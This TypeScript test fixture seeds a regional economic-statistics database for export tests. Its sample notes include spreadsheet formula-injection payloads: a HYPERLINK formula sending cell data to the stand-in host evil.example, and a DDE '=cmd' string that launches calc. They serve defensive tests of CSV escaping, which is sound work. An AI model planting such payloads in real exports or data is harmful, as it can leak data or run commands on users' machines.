import type { DatabaseHandle } from "@zones/db/client";
import { indicators, observations, reportingPeriods, submissions, zones } from "@zones/db/schema";
import { seedCatalogue } from "@zones/db/seed";
import { INDICATORS, ZONES } from "@zones/domain";
import { and, asc, between, eq, inArray } from "drizzle-orm";

import { inCatalogue, parseExportFilters, type TExportFilters, type TExportFiltersInput } from "./filters";

/**
 * A small hand-made fixture for the export tests:
 *
 *   zone    quarter  status     revision  values (gdp, gdp-growth, urban-unemployment) and notes
 *   HB-HS   2025Q1   approved   1         1929.50 "=HYPERLINK(…)", -3.5 "-1+2", 5.2 with quotes, comma, CRLF
 *   HB-HS   2025Q2   approved   0         2100.125 (preliminary) CR first, 4.0 bare CR, 5.1 edge spaces
 *   HB-HS   2025Q3   submitted  0         3300, 4.5, —
 *   HB-HS   2025Q4   draft      0         4400 "draft must never leave", …
 *   SD-ZB   2025Q1   approved   0         5000.00 "@SUM(A1)", 0.001 "\tTab", 6.6 "+86 电话"
 *   SD-ZB   2025Q2   returned   0         5100 (returned: never exported)
 *   SD-ZB   2025Q3   approved   0         123456789012.3456 "𠮷野家 (a four-byte character)"
 *   AH-TL   2025Q1   submitted  0         777
 *   LN-C    2025Q1   approved   0         —   (approved, but no values: no rows)
 */
export const FIXTURE_SUBMISSIONS = [
  { zoneCode: "HB-HS", quarter: "2025Q1", status: "approved", revision: 1 },
  { zoneCode: "HB-HS", quarter: "2025Q2", status: "approved", revision: 0 },
  { zoneCode: "HB-HS", quarter: "2025Q3", status: "submitted", revision: 0 },
  { zoneCode: "HB-HS", quarter: "2025Q4", status: "draft", revision: 0 },
  { zoneCode: "SD-ZB", quarter: "2025Q1", status: "approved", revision: 0 },
  { zoneCode: "SD-ZB", quarter: "2025Q2", status: "returned", revision: 0 },
  { zoneCode: "SD-ZB", quarter: "2025Q3", status: "approved", revision: 0 },
  { zoneCode: "AH-TL", quarter: "2025Q1", status: "submitted", revision: 0 },
  { zoneCode: "LN-C", quarter: "2025Q1", status: "approved", revision: 0 },
] as const;

export const INJECTION_NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
export const QUOTED_NOTE = '含"引号", 逗号\r\n和换行';
/** Notes are stored as typed: a lone CR (an old Mac line end), leading and trailing spaces. */
export const BARE_CR_NOTE = "口径\r调整";
export const CR_FIRST_NOTE = "\r=cmd|' /C calc'!A0";
export const SPACED_NOTE = " 首尾空格 ";

export const FIXTURE_OBSERVATIONS: {
  zoneCode: string;
  indicatorCode: string;
  quarter: string;
  value: string;
  revisionKind?: "preliminary" | "final";
  note?: string;
}[] = [
  { zoneCode: "HB-HS", indicatorCode: "gdp", quarter: "2025Q1", value: "1929.50", note: INJECTION_NOTE },
  { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q1", value: "-3.5", note: "-1+2" },
  {
    zoneCode: "HB-HS",
    indicatorCode: "urban-unemployment",
    quarter: "2025Q1",
    value: "5.2",
    note: QUOTED_NOTE,
  },
  {
    zoneCode: "HB-HS",
    indicatorCode: "gdp",
    quarter: "2025Q2",
    value: "2100.125",
    revisionKind: "preliminary",
    note: CR_FIRST_NOTE,
  },
  { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q2", value: "4.0", note: BARE_CR_NOTE },
  {
    zoneCode: "HB-HS",
    indicatorCode: "urban-unemployment",
    quarter: "2025Q2",
    value: "5.1",
    note: SPACED_NOTE,
  },
  { zoneCode: "HB-HS", indicatorCode: "gdp", quarter: "2025Q3", value: "3300" },
  { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q3", value: "4.5" },
  {
    zoneCode: "HB-HS",
    indicatorCode: "gdp",
    quarter: "2025Q4",
    value: "4400",
    note: "draft must never leave",
  },
  { zoneCode: "HB-HS", indicatorCode: "gdp-growth", quarter: "2025Q4", value: "9.9" },
  { zoneCode: "SD-ZB", indicatorCode: "gdp", quarter: "2025Q1", value: "5000.00", note: "@SUM(A1)" },
  { zoneCode: "SD-ZB", indicatorCode: "gdp-growth", quarter: "2025Q1", value: "0.001", note: "\tTab" },
  {
    zoneCode: "SD-ZB",
    indicatorCode: "urban-unemployment",
    quarter: "2025Q1",
    value: "6.6",
    note: "+86 电话",
  },
  { zoneCode: "SD-ZB", indicatorCode: "gdp", quarter: "2025Q2", value: "5100", note: "returned" },
  {
    zoneCode: "SD-ZB",
    indicatorCode: "gdp",
    quarter: "2025Q3",
    value: "123456789012.3456",
    note: "𠮷野家 (a four-byte character)",
  },
  { zoneCode: "AH-TL", indicatorCode: "gdp", quarter: "2025Q1", value: "777" },
];

export async function loadFixture(handle: DatabaseHandle): Promise<void> {
  const { db } = handle;
  await seedCatalogue(db);
  await db.insert(reportingPeriods).values(
    ["2025Q1", "2025Q2", "2025Q3", "2025Q4"].map((quarter) => ({
      quarter,
      status: "closed" as const,
      deadline: "2026-01-25",
    })),
  );
  await db.insert(submissions).values(FIXTURE_SUBMISSIONS.map((row) => ({ ...row })));
  await db.insert(observations).values(
    FIXTURE_OBSERVATIONS.map((row) => ({
      ...row,
      revisionKind: row.revisionKind ?? "final",
      note: row.note ?? null,
    })),
  );
}

/** Filters as an export runs them: checked and ordered by the (built-in, here) catalogue. */
export function filters(input: Partial<TExportFiltersInput> = {}): TExportFilters {
  return inCatalogue(
    parseExportFilters({
      zoneCodes: ["HB-HS", "SD-ZB", "AH-TL", "LN-C"],
      indicatorCodes: ["gdp", "gdp-growth", "urban-unemployment"],
      from: "2025Q1",
      to: "2025Q4",
      layout: "long",
      headerLanguage: "zh",
      ...input,
    }),
    { zones: ZONES, indicators: INDICATORS },
  );
}

/** The rows the export should contain, read with the query builder (independently of the export's SQL). */
export async function expectedRows(handle: DatabaseHandle, scope: TExportFilters) {
  return handle.db
    .select({
      zoneCode: zones.code,
      zoneNameZh: zones.nameZh,
      zoneNameEn: zones.nameEn,
      zoneShortNameZh: zones.shortNameZh,
      zoneShortNameEn: zones.shortNameEn,
      indicatorCode: indicators.code,
      indicatorNameZh: indicators.nameZh,
      indicatorNameEn: indicators.nameEn,
      unitZh: indicators.unitZh,
      unitEn: indicators.unitEn,
      quarter: observations.quarter,
      value: observations.value,
      status: submissions.status,
      revision: submissions.revision,
      revisionKind: observations.revisionKind,
      note: observations.note,
    })
    .from(observations)
    .innerJoin(
      submissions,
      and(eq(submissions.zoneCode, observations.zoneCode), eq(submissions.quarter, observations.quarter)),
    )
    .innerJoin(zones, eq(zones.code, observations.zoneCode))
    .innerJoin(indicators, eq(indicators.code, observations.indicatorCode))
    .where(
      and(
        inArray(observations.zoneCode, scope.zoneCodes),
        inArray(observations.indicatorCode, scope.indicatorCodes),
        between(observations.quarter, scope.from, scope.to),
        inArray(submissions.status, scope.statuses),
      ),
    )
    .orderBy(asc(zones.sortOrder), asc(indicators.sortOrder), asc(observations.quarter));
}
